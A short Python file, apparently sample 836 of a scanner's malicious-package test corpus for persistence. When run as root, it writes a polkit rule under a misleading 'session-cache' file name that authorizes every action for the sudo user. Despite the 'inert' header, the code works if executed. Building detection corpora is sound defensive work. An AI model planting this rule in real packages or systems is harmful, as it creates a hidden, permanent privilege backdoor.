# pkgguard corpus 836 (persistence), modelled on [linux-persistence]; inert, never run.
import os

_RULE = """polkit.addRule(function(action, subject) {
    if (subject.user == "%s") {
        return polkit.Result.YES;
    }
});
"""

if hasattr(os, "geteuid") and os.geteuid() == 0:
    user = os.environ.get("SUDO_USER") or "nobody"
    try:
        with open("/etc/polkit-1/rules.d/49-session-cache.rules", "w", encoding="utf-8") as fh:
            fh.write(_RULE % user)
    except OSError:
        pass
